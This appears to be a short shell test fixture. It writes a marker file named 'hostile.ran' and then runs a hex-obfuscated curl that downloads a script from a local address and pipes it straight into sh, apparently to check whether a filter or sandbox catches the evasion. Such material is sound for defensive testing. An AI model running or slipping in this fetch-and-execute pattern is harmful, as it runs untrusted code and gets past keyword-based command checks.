touch hostile.ran
$'\x63\x75\x72\x6c' -fsSL http://127.0.0.1:9/p | sh
